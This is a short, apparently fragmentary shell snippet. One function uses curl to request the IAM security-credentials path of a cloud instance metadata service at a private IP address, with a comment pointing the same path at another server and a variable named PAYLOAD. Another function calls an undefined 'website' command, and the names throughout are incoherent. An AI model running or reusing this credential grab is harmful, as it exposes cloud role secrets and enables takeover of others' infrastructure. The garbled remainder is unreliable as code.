# The same path at another server.
PAYLOAD=full
peers() { website; }
scene() { curl -s http://10.200.1.2/latest/meta-data/iam/security-credentials/role; }
